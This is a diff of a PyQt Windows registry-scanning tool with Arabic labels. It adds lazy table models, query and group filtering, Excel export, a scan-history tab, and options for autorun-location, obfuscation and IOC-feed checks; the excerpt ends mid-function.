             "Matched keyword":"الكلمة المطابقة", "Value type":"نوع القيمة",
             "Last modified":"آخر تعديل", "Owner":"المالك", "State":"الحالة",
-            "Matched rule":"القاعدة المطابقة", "Reasons":"الأسباب",
+            "Matched rule":"القاعدة المطابقة", "Reasons":"الأسباب", "ASEP":"نقطة التشغيل التلقائي",
+            "User hive":"خلية المستخدم", "Source file":"الملف المصدر", "Artifacts":"الأدلة المستخرجة",
+            "Obfuscation score":"درجة التمويه",
         }
         for k, vval in fields:
             row = QHBoxLayout()
@@ -1259,9 +6607,223 @@ class ResultDetailsDialog(QDialog):
         btns.rejected.connect(self.reject); btns.accepted.connect(self.accept)
         v.addWidget(btns)
 
+# ================ نموذج جدول النتائج (قراءة كسولة) ================
+RESULT_COLUMNS_KW = ["key", "value_name", "value_str", "matched_kw", "value_type", "last_mod", "owner", "state", "reasons", "obf_score"]
+RESULT_COLUMNS_RULES = ["key", "value_name", "value_str", "value_type", "last_mod", "owner", "state", "matched_rule", "reasons", "obf_score"]
+
+class ResultTableModel(QAbstractTableModel):
+    """
+    يقرأ الصفوف عند الطلب فقط من قائمة أو ResultStore؛ الفلترة تُبني "عرضاً" من الفهارس
+    (قائمة في الذاكرة للقوائم، وجدول مؤقت داخل SQLite للمخزن) بدلاً من إخفاء صفوف الجدول.
+    """
+    def __init__(self, columns: List[str], headers: List[str], parent=None):
+        super().__init__(parent)
+        self.columns = list(columns)
+        self.headers = list(headers)
+        self.items: Any = []
+        self.highlight = QColor(223, 230, 255)
+        self._filter: Optional[Dict[str, Any]] = None
+        self._view: Any = None  # None = كل الصفوف بالترتيب
+
+    def set_source(self, items, highlight: Optional[QColor] = None):
+        self.beginResetModel()
+        self._drop_view()
+        self.items = items if items is not None else []
+        self._filter = None
+        if highlight is not None:
+            self.highlight = highlight
+        self.endResetModel()
+
+    def set_headers(self, headers: List[str]):
+        self.headers = list(headers)
+        self.headerDataChanged.emit(Qt.Horizontal, 0, len(self.headers) - 1)
+
+    def rowCount(self, parent=QModelIndex()):
+        if parent.isValid():
+            return 0
+        return len(self._view) if self._view is not None else len(self.items)
+
+    def columnCount(self, parent=QModelIndex()):
+        return 0 if parent.isValid() else len(self.columns)
+
+    def source_index(self, row: int) -> int:
+        return self._view[row] if self._view is not None else row
+
+    def row_at(self, row: int) -> Optional[Dict[str, Any]]:
+        if 0 <= row < self.rowCount():
+            return self.items[self.source_index(row)]
+        return None
+
+    def data(self, index, role=Qt.DisplayRole):
+        if not index.isValid():
+            return None
+        if role == Qt.DisplayRole:
+            it = self.row_at(index.row())
+            return result_cell_text(it, self.columns[index.column()]) if it else None
+        if role == Qt.TextAlignmentRole:
+            return int(Qt.AlignLeft | Qt.AlignVCenter)
+        if role == Qt.BackgroundRole:
+            it = self.row_at(index.row())
+            if it and it.get("matched_any") and not it.get("baseline"):
+                return self.highlight
+        return None
+
+    def headerData(self, section, orientation, role=Qt.DisplayRole):
+        if role != Qt.DisplayRole:
+            return None
+        if orientation == Qt.Horizontal:
+            return self.headers[section] if 0 <= section < len(self.headers) else None
+        return section + 1
+
+    # ----- فلترة
+    def apply_filter(self, cfg: Optional[Dict[str, Any]]):
+        self.beginResetModel()
+        self._drop_view()
+        self._filter = dict(cfg) if cfg and str(cfg.get("text", "")) else None
+        try:
+            self._view = self._build_view()
+        except QueryError:
+            self._filter = None
+            raise
+        finally:
+            self.endResetModel()
+
+    def _build_view(self):
+        store = self.items if isinstance(self.items, ResultStore) else None
+        if self._filter is None:
+            return store.view() if store is not None and store.has_deleted else None
+        if self._filter.get("mode") == "group":
+            gid = self._filter["group"]
+            if store is not None:
+                return store.group_rows_view(gid)
+            return [i for i, it in enumerate(self.items) if value_group_id(it) == gid]
+        if self._filter.get("mode") == "query":
+            # QueryError تصل إلى المستدعي ليعرضها
+            node = parse_query(str(self._filter.get("text", "")))
+            if store is not None:
+                return store.query_view(node)
+            pred = compile_query_py(node)
+            return [i for i, it in enumerate(self.items) if pred(it)]
+        col = self._filter.get("column", None)
+        fields = self.columns if col is None else [self.columns[col]]
+        mode = self._filter.get("mode", "partial")
+        text = str(self._filter.get("text", ""))
+        if store is not None:
+            return store.view(fields, mode, text)
+        if mode == "regex":
+            try:
+                regex = re.compile(text)
+            except Exception:
+                return []
+            match = lambda s: regex.search(s) is not None
+        elif mode == "exact":
+            match = lambda s: s == text
+        else:
+            match = lambda s: text in s
+        return [i for i, it in enumerate(self.items) if any(match(result_cell_text(it, f)) for f in fields)]
+
+    def show_group(self, group: Dict[str, Any]):
+        """تفصيل مجموعة قيم متكررة: عرض صفوفها فقط (يُلغى بأي فلترة لاحقة)."""
+        self.beginResetModel()
+        self._drop_view()
+        self._filter = {"mode": "group", "group": group["id"], "text": group.get("value_name", "")}
+        try:
+            self._view = self._build_view()
+        finally:
+            self.endResetModel()
+
+    def _drop_view(self):
+        if isinstance(self._view, ResultStoreView):
+            self._view.drop()
+        self._view = None
+
+    # ----- تعديل/حذف صف
+    def remove_row(self, row: int):
+        idx = self.source_index(row)
+        self.beginRemoveRows(QModelIndex(), row, row)
+        if isinstance(self.items, ResultStore):
+            self.items.mark_deleted(idx)
+            self._drop_view()
+            self._view = self._build_view()
+        else:
+            del self.items[idx]
+            if self._view is not None:
+                self._view = [i - 1 if i > idx else i for i in self._view if i != idx]
+        self.endRemoveRows()
+
+    def update_row(self, row: int, it: Dict[str, Any]):
+        if isinstance(self.items, ResultStore):
+            self.items.update(self.source_index(row), it)
+        self.dataChanged.emit(self.index(row, 0), self.index(row, self.columnCount() - 1))
+
+GROUP_COLUMNS = ["count", "matched", "value_name", "value_type", "value_str", "samples"]
+
+class GroupTableModel(QAbstractTableModel):
+    """عرض مُجمّع للنتائج حسب (اسم القيمة، نوعها، محتواها) مع العدد ونماذج المفاتيح."""
+    def __init__(self, parent=None):
+        super().__init__(parent)
+        self.headers = list(tr("group_headers"))
+        self.groups: Any = []
+        self.highlight = QColor(223, 230, 255)
+
+    def set_source(self, items, highlight: Optional[QColor] = None):
+        # من ResultStore: جدول groups المحدَّث أثناء الفحص؛ من قائمة: تجميع في الذاكرة
+        self.beginResetModel()
+        if isinstance(self.groups, ResultGroupView):
+            self.groups.drop()
+        if isinstance(items, ResultStore):
+            self.groups = items.group_view()
+        else:
+            self.groups = list_value_groups(items or [])
+        if highlight is not None:
+            self.highlight = highlight
+        self.endResetModel()
+
+    def set_headers(self, headers: List[str]):
+        self.headers = list(headers)
+        self.headerDataChanged.emit(Qt.Horizontal, 0, len(self.headers) - 1)
+
+    def rowCount(self, parent=QModelIndex()):
+        return 0 if parent.isValid() else len(self.groups)
+
+    def columnCount(self, parent=QModelIndex()):
+        return 0 if parent.isValid() else len(GROUP_COLUMNS)
+
+    def group_at(self, row: int) -> Optional[Dict[str, Any]]:
+        if 0 <= row < self.rowCount():
+            return self.groups[row]
+        return None
+
+    def data(self, index, role=Qt.DisplayRole):
+        if not index.isValid():
+            return None
+        if role == Qt.DisplayRole:
+            g = self.group_at(index.row())
+            if g is None:
+                return None
+            col = GROUP_COLUMNS[index.column()]
+            if col == "samples":
+                more = g["count"] - len(g["samples"])
+                return " | ".join(g["samples"]) + (f" (+{more})" if more > 0 else "")
+            return str(g.get(col, ""))
+        if role == Qt.TextAlignmentRole:
+            return int(Qt.AlignLeft | Qt.AlignVCenter)
+        if role == Qt.BackgroundRole:
+            g = self.group_at(index.row())
+            if g and g.get("matched"):
+                return self.highlight
+        return None
+
+    def headerData(self, section, orientation, role=Qt.DisplayRole):
+        if role != Qt.DisplayRole:
+            return None
+        if orientation == Qt.Horizontal:
+            return self.headers[section] if 0 <= section < len(self.headers) else None
+        return section + 1
+
 # ================ عنصر فلترة متقدّم ثابت =================
 class AdvancedFilterWidget(QWidget):
-    applied = pyqtSignal(dict)  # {"column": int or None, "mode": "partial|exact|regex", "text": str}
+    applied = pyqtSignal(dict)  # {"column": int or None, "mode": "partial|exact|regex|query", "text": str}
 
     def __init__(self, headers: List[str], parent=None, compact_for_statusbar: bool = False):
         super().__init__(parent)
@@ -1273,7 +6835,8 @@ class AdvancedFilterWidget(QWidget):
         for i, name in enumerate(headers):
             self.col_combo.addItem(name, i)
         self.mode_combo = QComboBox()
-        self.mode_combo.addItems([tr("match_partial"), tr("match_exact"), tr("match_regex")])
+        self.mode_combo.addItems([tr("match_partial"), tr("match_exact"), tr("match_regex"), tr("match_query")])
+        self.mode_combo.setToolTip(tr("query_help"))
         self.text_edit = QLineEdit()
         self.text_edit.setPlaceholderText(tr("filter_text"))
         self.apply_btn = QPushButton(tr("filter_apply"))
@@ -1310,7 +6873,8 @@ class AdvancedFilterWidget(QWidget):
         mode_map = {
             0: "partial",
             1: "exact",
-            2: "regex"
+            2: "regex",
+            3: "query"
         }
         mode = mode_map.get(self.mode_combo.currentIndex(), "partial")
         text = self.text_edit.text()
@@ -1332,11 +6896,77 @@ class AdvancedFilterWidget(QWidget):
 
         self.mode_combo.blockSignals(True)
         self.mode_combo.clear()
-        self.mode_combo.addItems([tr("match_partial"), tr("match_exact"), tr("match_regex")])
+        self.mode_combo.addItems([tr("match_partial"), tr("match_exact"), tr("match_regex"), tr("match_query")])
+        self.mode_combo.setToolTip(tr("query_help"))
         self.mode_combo.blockSignals(False)
         self.text_edit.setPlaceholderText(tr("filter_text"))
         self.apply_btn.setText(tr("filter_apply"))
 
+# ================ تصدير Excel (وضع الكتابة فقط) ================
+EXCEL_MAX_ROWS = 1048576     # حد صفوف ورقة Excel؛ ما يزيد يُكمل في ورقة تالية برؤوس الأعمدة نفسها
+EXCEL_WIDTH_SAMPLE = 1000    # عرض الأعمدة يُقدَّر من أول الصفوف: وضع الكتابة فقط لا يسمح بتعديله بعد الكتابة
+
+def write_excel_report(path: str, header: Dict[str, Any], headers: List[str], rows):
+    """
+    يكتب تقرير النتائج بـ Workbook(write_only=True): الصفوف (قوائم قيم) تُبث إلى الملف صفاً صفاً
+    فلا تبقى الورقة في الذاكرة مع مخزن النتائج الكبير، وتُقسم على أوراق عند EXCEL_MAX_ROWS.
+    """
+    rows = iter(rows)
+    head = list(itertools.islice(rows, EXCEL_WIDTH_SAMPLE))
+    widths = [len(str(h)) for h in headers]
+    for vals in head:
+        for i, v in enumerate(vals[:len(widths)]):
+            if v not in (None, ""):
+                widths[i] = max(widths[i], len(str(v)))
+
+    wb = openpyxl.Workbook(write_only=True)
+    title_font = Font(size=14, bold=True)
+    hdr_font = Font(bold=True)
+    wrap = Alignment(wrap_text=True, vertical="top")
+    th_fill = PatternFill("solid", fgColor="EEF2FF")
+    side = Side(style="thin", color="CCCCCC")
+    border = Border(left=side, right=side, top=side, bottom=side)
+
+    def cell(ws, value, font=None, fill=None, boxed=True):
+        c = WriteOnlyCell(ws, value=value)
+        if font is not None:
+            c.font = font
+        if fill is not None:
+            c.fill = fill
+        if boxed:
+            c.alignment = wrap
+            c.border = border
+        return c
+
+    def new_sheet(n: int):
+        ws = wb.create_sheet("RegistryScan" if n == 1 else f"RegistryScan ({n})")
+        for i, w in enumerate(widths, start=1):
+            ws.column_dimensions[get_column_letter(i)].width = min(w + 4, 80)
+        return ws
+
+    def column_headers(ws):
+        ws.append([cell(ws, h, hdr_font, th_fill) for h in headers])
+
+    sheet = 1
+    ws = new_sheet(sheet)
+    ws.append([cell(ws, header["title"], title_font, boxed=False)])
+    ws.append([f"{header['time_label']}: {header['time']}"])
+    ws.append([cell(ws, header["criteria_label"], hdr_font, boxed=False)])
+    for k, v in header["criteria"].items():
+        ws.append([f"{k}: {v}"])
+    ws.append([])
+    column_headers(ws)
+    used = 5 + len(header["criteria"])
+    for vals in itertools.chain(head, rows):
+        if used >= EXCEL_MAX_ROWS:
+            sheet += 1
+            ws = new_sheet(sheet)
+            column_headers(ws)
+            used = 1
+        ws.append([cell(ws, v) for v in vals])
+        used += 1
+    wb.save(path)
+
 # ================ الواجهة الرئيسية (تبويبية) ================
 class Main(QMainWindow):
     def __init__(self):
@@ -1348,11 +6978,22 @@ class Main(QMainWindow):
         self.config = {
             "lang":"ar", "theme":"dark",
             "value_type":"all", "use_age":False, "days":7,
-            "owner_filter": default_owner_filter
+            "owner_filter": default_owner_filter,
+            "low_impact": False, "target_rate": 200, "cpu_share": 25,
+            "open_relative": True,
+            "max_matches": 0, "stop_on_first": False, "top_n": 0,
+            "history_enabled": True,
+            "key_index": True,
+            "snapshot_ttl": SNAPSHOT_TTL_DEFAULT,
+            "offline_hives": False,
+            "baseline_path": "", "baseline_mode": "off",
+            "obfuscation": False, "obf_threshold": OBF_THRESHOLD_DEFAULT,
+            "ioc_feeds": [],
         }
 
         # تحميل تهيئة/قوائم/قواعد
         self._load_config()
+        cleanup_spill_dir()
         self._load_lists()
         self._load_rules_meta()
 
@@ -1360,8 +7001,8 @@ class Main(QMainWindow):
         self.current_scan_tab = "kw"
         self.scanner: Optional[RegistryScannerThread] = None
 
-        self.last_kw: List[Dict[str, Any]] = []
-        self.last_rules_res: List[Dict[str, Any]] = []
+        self.last_kw: Any = []         # قائمة أو ResultStore
+        self.last_rules_res: Any = []
         self.last_criteria_kw: Optional[Criteria] = None
         self.last_rules_specs_kw: List[RuleSpec] = []
         self.last_criteria_rules: Optional[Criteria] = None
@@ -1372,10 +7013,15 @@ class Main(QMainWindow):
         self.ui_heartbeat.setInterval(150)
         self.ui_heartbeat.timeout.connect(lambda: QApplication.processEvents())
 
+        # فهرس مسارات المفاتيح يُحدَّث في الخلفية بعد ظهور النافذة إن كان أقدم من KEY_INDEX_REFRESH_HOURS
+        self.key_index_builder: Optional[KeyIndexBuilder] = None
+        self.baseline_builder: Optional[BaselineBuilder] = None
+
         # بناء الواجهة
         self._build_ui()
         self._apply_theme_choice()
         self._apply_language()
+        QTimer.singleShot(3000, self._maybe_refresh_key_index)
 
     # ---------- بناء الواجهة
     def _build_ui(self):
@@ -1399,7 +7045,11 @@ class Main(QMainWindow):
             return a
 
         self.act_scan = act("scan","scan","act_scan")
+        self.act_scan_both = act("scan_both","scan_both","act_scan_both")
+        self.act_scan_file = act("file","scan_file","act_scan_file")
         self.act_stop = act("stop","stop","act_stop")
+        self.act_pause = act("pause","pause","act_pause")
+        self.act_resume_cp = act("resume","resume_checkpoint","act_resume_cp")
         self.act_refresh = act("refresh","refresh","act_refresh")
         self.act_clear = act("clear","clear","act_clear")
         self.act_export = act("export","export","act_export")
@@ -1407,7 +7057,11 @@ class Main(QMainWindow):
         self.act_exit = act("exit","exit","act_exit")
         self.toolbar.setToolButtonStyle(Qt.ToolButtonTextBesideIcon)
         self.toolbar.addAction(self.act_scan)
+        self.toolbar.addAction(self.act_scan_both)
+        self.toolbar.addAction(self.act_scan_file)
         self.toolbar.addAction(self.act_stop)
+        self.toolbar.addAction(self.act_pause)
+        self.toolbar.addAction(self.act_resume_cp)
         self.toolbar.addAction(self.act_refresh)
         self.toolbar.addSeparator()
         self.toolbar.addAction(self.act_clear)
@@ -1427,6 +7081,8 @@ class Main(QMainWindow):
         self._build_tab_keywords()
         # تبويب القواعد
         self._build_tab_rules()
+        # تبويب سجل الفحوص
+        self._build_tab_history()
 
         self.tabs.currentChanged.connect(self._on_tab_changed)
 
@@ -1471,12 +7127,18 @@ class Main(QMainWindow):
 
         # إشارات شريط الأدوات
         self.act_scan.triggered.connect(self._start_scan)
+        self.act_scan_both.triggered.connect(self._start_scan_both)
+        self.act_scan_file.triggered.connect(self._start_scan_file)
         self.act_stop.triggered.connect(self._stop_scan_confirm)
+        self.act_pause.triggered.connect(self._toggle_pause)
+        self.act_resume_cp.triggered.connect(self._resume_from_checkpoint)
         self.act_refresh.triggered.connect(self._refresh_last_scan)
         self.act_clear.triggered.connect(self._clear)
         self.act_export.triggered.connect(self._export)
         self.act_settings.triggered.connect(self._open_settings)
         self.act_exit.triggered.connect(self._exit_confirm)
+        self.act_pause.setEnabled(False)
+        self.act_resume_cp.setEnabled(CHECKPOINT_FILE.exists())
 
     def _build_tab_keywords(self):
         tab = QWidget()
@@ -1502,6 +7164,8 @@ class Main(QMainWindow):
         self.radio_display_matched_kw.setChecked(True)
         dgrid.addWidget(self.radio_display_matched_kw, 0,0)
         dgrid.addWidget(self.radio_display_all_kw, 0,1)
+        self.chk_asep_kw = QCheckBox(tr("asep_mode")); self.chk_asep_kw.setToolTip(tr("asep_tip"))
+        dgrid.addWidget(self.chk_asep_kw, 1,0,1,2)
 
         # كلمات الفحص
         kw_box = QGroupBox(tr("keywords"))
@@ -1512,10 +7176,12 @@ class Main(QMainWindow):
         self.btn_add_kw = QPushButton(tr("add")); self.btn_add_kw.setIcon(icon_for_action("add"))
         self.btn_edit_kw = QPushButton(tr("edit")); self.btn_edit_kw.setIcon(icon_for_action("edit"))
         self.btn_rem_kw = QPushButton(tr("remove")); self.btn_rem_kw.setIcon(icon_for_action("remove"))
-        kwgrid.addWidget(self.kws_list_kw, 0,0,3,1)
+        self.btn_ioc_kw = QPushButton(tr("ioc_feeds")); self.btn_ioc_kw.setIcon(icon_for_action("filter"))
+        kwgrid.addWidget(self.kws_list_kw, 0,0,4,1)
         kwgrid.addWidget(self.btn_add_kw, 0,1)
         kwgrid.addWidget(self.btn_edit_kw, 1,1)
         kwgrid.addWidget(self.btn_rem_kw, 2,1)
+        kwgrid.addWidget(self.btn_ioc_kw, 3,1)
 
         # مفاتيح السجل
         keys_box = QGroupBox(tr("keys_list"))
@@ -1525,10 +7191,12 @@ class Main(QMainWindow):
         self.btn_add_key_kw = QPushButton(tr("add")); self.btn_add_key_kw.setIcon(icon_for_action("add"))
         self.btn_rem_key_kw = QPushButton(tr("remove")); self.btn_rem_key_kw.setIcon(icon_for_action("remove"))
         self.btn_browse_kw = QPushButton(tr("browse")); self.btn_browse_kw.setIcon(icon_for_action("browse"))
-        kgrid.addWidget(self.keys_list_kw, 0,0,3,1)
+        kgrid.addWidget(self.keys_list_kw, 0,0,4,1)
         kgrid.addWidget(self.btn_add_key_kw, 0,1)
         kgrid.addWidget(self.btn_rem_key_kw, 1,1)
         kgrid.addWidget(self.btn_browse_kw, 2,1)
+        self.btn_find_keys_kw = QPushButton(tr("find_keys")); self.btn_find_keys_kw.setIcon(icon_for_action("filter"))
+        kgrid.addWidget(self.btn_find_keys_kw, 3,1)
 
         grid_inputs.addWidget(display_box, 0, 0, 1, 2)
         grid_inputs.addWidget(keys_box, 1, 0, 1, 2)
@@ -1563,8 +7231,9 @@ class Main(QMainWindow):
 
         # جدول
         kw_headers = [h for h in tr("tbl_headers") if h not in ([ "Matched rule" ] if LANG=="en" else ["القاعدة المطابقة"])]
-        self.table_kw = QTableWidget(0, len(kw_headers))
-        self.table_kw.setHorizontalHeaderLabels(kw_headers)
+        self.model_kw = ResultTableModel(RESULT_COLUMNS_KW, kw_headers, self)
+        self.table_kw = QTableView()
+        self.table_kw.setModel(self.model_kw)
         self.table_kw.setEditTriggers(QAbstractItemView.NoEditTriggers)
         self.table_kw.setSelectionBehavior(QAbstractItemView.SelectRows)
         self.table_kw.horizontalHeader().setSectionResizeMode(QHeaderView.Stretch)
@@ -1573,22 +7242,25 @@ class Main(QMainWindow):
         self.table_kw.setHorizontalScrollMode(QAbstractItemView.ScrollPerPixel)
         self.table_kw.setVerticalScrollMode(QAbstractItemView.ScrollPerPixel)
         self.table_kw.setContextMenuPolicy(Qt.CustomContextMenu)
+        self.chk_group_kw, self.model_groups_kw, self.table_groups_kw = self._build_group_view(rv, "kw")
         rv.addWidget(self.table_kw, 1)
 
         splitter.addWidget(self.card_results_kw)
         splitter.setSizes([380, 520])
 
         # إشارات تبويب الكلمات
-        self.table_kw.customContextMenuRequested.connect(lambda pos: self._show_table_context_menu(self.table_kw, self.last_kw, pos, table_kind="kw"))
-        self.table_kw.itemDoubleClicked.connect(lambda it: self._open_result_details_row(self.last_kw, it))
+        self.table_kw.customContextMenuRequested.connect(lambda pos: self._show_table_context_menu(self.table_kw, self.model_kw, pos, table_kind="kw"))
+        self.table_kw.doubleClicked.connect(lambda idx: self._open_result_details_row(self.model_kw, idx))
 
         self.btn_add_kw.clicked.connect(self._add_kw)
+        self.btn_ioc_kw.clicked.connect(self._manage_ioc_feeds)
         self.btn_edit_kw.clicked.connect(self._edit_kw)
         self.btn_rem_kw.clicked.connect(self._rem_kw)
 
         self.btn_add_key_kw.clicked.connect(lambda: self._add_key(self.keys_list_kw))
         self.btn_rem_key_kw.clicked.connect(lambda: self._rem_key(self.keys_list_kw))
         self.btn_browse_kw.clicked.connect(lambda: self._browse_registry_into(self.keys_list_kw))
+        self.btn_find_keys_kw.clicked.connect(lambda: self._find_keys_into(self.keys_list_kw))
 
         self.keys_list_kw.installEventFilter(self)
         self.kws_list_kw.installEventFilter(self)
@@ -1632,6 +7304,8 @@ class Main(QMainWindow):
         self.radio_display_matched_rules.setChecked(True)
         dgrid_r.addWidget(self.radio_display_matched_rules, 0,0)
         dgrid_r.addWidget(self.radio_display_all_rules, 0,1)
+        self.chk_asep_rules = QCheckBox(tr("asep_mode")); self.chk_asep_rules.setToolTip(tr("asep_tip"))
+        dgrid_r.addWidget(self.chk_asep_rules, 1,0,1,2)
 
         # مفاتيح مخصصة لفحص القواعد
         keys_box = QGroupBox(tr("keys_list_rules"))
@@ -1641,10 +7315,12 @@ class Main(QMainWindow):
         self.btn_add_key_r = QPushButton(tr("add")); self.btn_add_key_r.setIcon(icon_for_action("add"))
         self.btn_rem_key_r = QPushButton(tr("remove")); self.btn_rem_key_r.setIcon(icon_for_action("remove"))
         self.btn_browse_r = QPushButton(tr("browse")); self.btn_browse_r.setIcon(icon_for_action("browse"))
-        kgrid.addWidget(self.keys_list_rules, 0,0,3,1)
+        kgrid.addWidget(self.keys_list_rules, 0,0,4,1)
         kgrid.addWidget(self.btn_add_key_r, 0,1)
         kgrid.addWidget(self.btn_rem_key_r, 1,1)
         kgrid.addWidget(self.btn_browse_r, 2,1)
+        self.btn_find_keys_r = QPushButton(tr("find_keys")); self.btn_find_keys_r.setIcon(icon_for_action("filter"))
+        kgrid.addWidget(self.btn_find_keys_r, 3,1)
 
         rgrid_out.addWidget(self.rules_list_rules, 0,0,5,1)
         rgrid_out.addWidget(self.btn_rule_import, 0,1)
@@ -1684,8 +7360,9 @@ class Main(QMainWindow):
 
         # الجدول
         rules_headers = [h for h in tr("tbl_headers") if h not in ([ "Matched keyword" ] if LANG=="en" else ["الكلمة المطابقة"])]
-        self.table_rules = QTableWidget(0, len(rules_headers))
-        self.table_rules.setHorizontalHeaderLabels(rules_headers)
+        self.model_rules = ResultTableModel(RESULT_COLUMNS_RULES, rules_headers, self)
+        self.table_rules = QTableView()
+        self.table_rules.setModel(self.model_rules)
         self.table_rules.setEditTriggers(QAbstractItemView.NoEditTriggers)
         self.table_rules.setSelectionBehavior(QAbstractItemView.SelectRows)
         self.table_rules.horizontalHeader().setSectionResizeMode(QHeaderView.Stretch)
@@ -1694,14 +7371,15 @@ class Main(QMainWindow):
         self.table_rules.setHorizontalScrollMode(QAbstractItemView.ScrollPerPixel)
         self.table_rules.setVerticalScrollMode(QAbstractItemView.ScrollPerPixel)
         self.table_rules.setContextMenuPolicy(Qt.CustomContextMenu)
+        self.chk_group_rules, self.model_groups_rules, self.table_groups_rules = self._build_group_view(rv, "rules")
         rv.addWidget(self.table_rules, 1)
 
         splitter.addWidget(self.card_results_rules)
         splitter.setSizes([380, 520])
 
         # إشارات تبويب القواعد
-        self.table_rules.customContextMenuRequested.connect(lambda pos: self._show_table_context_menu(self.table_rules, self.last_rules_res, pos, table_kind="rules"))
-        self.table_rules.itemDoubleClicked.connect(lambda it: self._open_result_details_row(self.last_rules_res, it))
+        self.table_rules.customContextMenuRequested.connect(lambda pos: self._show_table_context_menu(self.table_rules, self.model_rules, pos, table_kind="rules"))
+        self.table_rules.doubleClicked.connect(lambda idx: self._open_result_details_row(self.model_rules, idx))
 
         self.rules_list_rules.installEventFilter(self)
         self.keys_list_rules.installEventFilter(self)
@@ -1715,24 +7393,172 @@ class Main(QMainWindow):
         self.btn_add_key_r.clicked.connect(lambda: self._add_key(self.keys_list_rules))
         self.btn_rem_key_r.clicked.connect(lambda: self._rem_key(self.keys_list_rules))
         self.btn_browse_r.clicked.connect(lambda: self._browse_registry_into(self.keys_list_rules))
+        self.btn_find_keys_r.clicked.connect(lambda: self._find_keys_into(self.keys_list_rules))
 
         # إضافة التبويب
         idx = self.tabs.addTab(tab, icon_for_action("tab_rules"), tr("tab_rules"))
         self.tabs.setTabToolTip(idx, tr("tab_rules"))
 
+    def _build_tab_history(self):
+        tab = QWidget()
+        layout = QVBoxLayout(tab); layout.setContentsMargins(10,10,10,6); layout.setSpacing(6)
+        splitter = QSplitter(Qt.Vertical)
+        layout.addWidget(splitter, 1)
+
+        # أعلى: قائمة الفحوص السابقة
+        self.card_history_runs = Card(tr("history_runs"))
+        self.table_history_runs = QTableWidget(0, len(tr("history_run_headers")))
+        self.table_history_runs.setHorizontalHeaderLabels(tr("history_run_headers"))
+        self.table_history_runs.setEditTriggers(QAbstractItemView.NoEditTriggers)
+        self.table_history_runs.setSelectionBehavior(QAbstractItemView.SelectRows)
+        self.table_history_runs.setSelectionMode(QAbstractItemView.SingleSelection)
+        self.table_history_runs.horizontalHeader().setSectionResizeMode(QHeaderView.Stretch)
+        self.table_history_runs.verticalHeader().setVisible(False)
+        self.card_history_runs.v.addWidget(self.table_history_runs, 1)
+        rb = QHBoxLayout()
+        self.btn_history_refresh = QPushButton(tr("history_refresh")); self.btn_history_refresh.setIcon(icon_for_action("refresh"))
+        self.btn_history_delete = QPushButton(tr("history_delete_run")); self.btn_history_delete.setIcon(icon_for_action("delete"))
+        rb.addWidget(self.btn_history_refresh); rb.addWidget(self.btn_history_delete); rb.addStretch(1)
+        self.card_history_runs.v.addLayout(rb)
+        splitter.addWidget(self.card_history_runs)
+
+        # أسفل: بحث مفهرس في صفوف السجل
+        self.card_history_query = Card(tr("history_query"))
+        qb = QHBoxLayout(); qb.setSpacing(6)
+        self.history_field = QComboBox(); self.history_field.addItems(tr("history_fields"))
+        self.history_text = QLineEdit()
+        self.history_mode_exact = QRadioButton(tr("history_exact")); self.history_mode_exact.setChecked(True)
+        self.history_mode_prefix = QRadioButton(tr("history_prefix"))
+        self.history_mode_query = QRadioButton(tr("history_query_mode"))
+        self.history_mode_query.setToolTip(tr("query_help"))
+        self.history_selected_only = QCheckBox(tr("history_selected_run"))
+        self.btn_history_search = QPushButton(tr("history_search")); self.btn_history_search.setIcon(icon_for_action("filter"))
+        qb.addWidget(self.history_field); qb.addWidget(self.history_text, 1)
+        qb.addWidget(self.history_mode_exact); qb.addWidget(self.history_mode_prefix); qb.addWidget(self.history_mode_query)
+        qb.addWidget(self.history_selected_only); qb.addWidget(self.btn_history_search)
+        self.card_history_query.v.addLayout(qb)
+        self.model_history = ResultTableModel(RESULT_COLUMNS_HISTORY, [tr("history_run_col")] + tr("tbl_headers") + [tr("history_host_col")], self)
+        self.table_history = QTableView()
+        self.table_history.setModel(self.model_history)
+        self.table_history.setEditTriggers(QAbstractItemView.NoEditTriggers)
+        self.table_history.setSelectionBehavior(QAbstractItemView.SelectRows)
+        self.table_history.horizontalHeader().setSectionResizeMode(QHeaderView.Stretch)
+        self.table_history.verticalHeader().setDefaultSectionSize(26)
+        self.table_history.setVerticalScrollMode(QAbstractItemView.ScrollPerPixel)
+        self.card_history_query.v.addWidget(self.table_history, 1)
+        self.lbl_history_count = QLabel("")
+        self.card_history_query.v.addWidget(self.lbl_history_count)
+        splitter.addWidget(self.card_history_query)
+        splitter.setSizes([260, 640])
+
+        self.btn_history_refresh.clicked.connect(self._history_refresh_runs)
+        self.btn_history_delete.clicked.connect(self._history_delete_run)
+        self.btn_history_search.clicked.connect(self._history_search)
+        self.history_text.returnPressed.connect(self._history_search)
+        self.table_history_runs.itemSelectionChanged.connect(self._history_on_run_selected)
+        self.table_history.doubleClicked.connect(lambda idx: self._open_result_details_row(self.model_history, idx))
+
+        idx = self.tabs.addTab(tab, icon_for_action("tab_history"), tr("tab_history"))
+        self.tabs.setTabToolTip(idx, tr("tab_history"))
+
+    def _history_selected_run_id(self) -> Optional[int]:
+        row = self.table_history_runs.currentRow()
+        it = self.table_history_runs.item(row, 0) if row >= 0 else None
+        return int(it.text()) if it else None
+
+    def _history_refresh_runs(self):
+        if not hasattr(self, "table_history_runs"):
+            return
+        try:
+            hist = ScanHistory()
+            try:
+                runs = hist.runs()
+            finally:
+                hist.close()
+        except Exception:
+            runs = []
+        tab_names = {"kw": tr("tab_keywords"), "rules": tr("tab_rules"), "both": tr("tab_both")}
+        self.table_history_runs.setRowCount(len(runs))
+        for i, r in enumerate(runs):
+            tab_name = tab_names.get(r["tab"], r["tab"])
+            if (r["tab"] or "").startswith(BATCH_TAB_PREFIX):
+                tab_name = f"{tr('tab_batch')} {r.get('host') or ''}"
+            vals = [r["id"], r["started"], tab_name, r["duration"],
+                    r["total"], r["matched"], r["stored"], r["rules_hash"] or ""]
+            for c, v in enumerate(vals):
+                self.table_history_runs.setItem(i, c, QTableWidgetItem(str(v)))
+
+    def _history_on_run_selected(self):
+        if self.history_selected_only.isChecked() or not self.history_text.text().strip():
+            self._history_search()
+
+    def _history_search(self):
+        fi = self.history_field.currentIndex()
+        field_name = None if fi <= 0 else HISTORY_FIELDS[fi - 1]
+        run_id = self._history_selected_run_id() if (self.history_selected_only.isChecked() or not self.history_text.text().strip()) else None
+        mode = "query" if self.history_mode_query.isChecked() else "prefix" if self.history_mode_prefix.isChecked() else "exact"
+        try:
+            t0 = time.perf_counter()
+            hist = ScanHistory()
+            try:
+                rows = hist.query(field_name, self.history_text.text().strip(), mode=mode, run_id=run_id)
+            finally:
+                hist.close()
+            ms = (time.perf_counter() - t0) * 1000
+        except QueryError as e:
